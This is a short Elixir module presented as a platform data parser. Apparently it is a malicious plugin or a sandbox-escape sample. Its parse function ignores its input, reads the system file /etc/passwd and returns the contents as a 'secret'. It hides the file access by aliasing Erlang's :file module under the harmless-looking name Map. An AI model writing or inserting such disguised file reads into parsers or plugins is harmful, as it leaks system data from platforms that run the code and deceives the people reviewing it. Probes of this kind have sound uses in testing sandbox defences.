defmodule Parser do
  use Platform.Parsing.Behaviour
  alias :file, as: Map
  def parse(_payload, _meta) do
    {:ok, secret} = Map.read_file("/etc/passwd")
    %{secret: secret}
  end
end
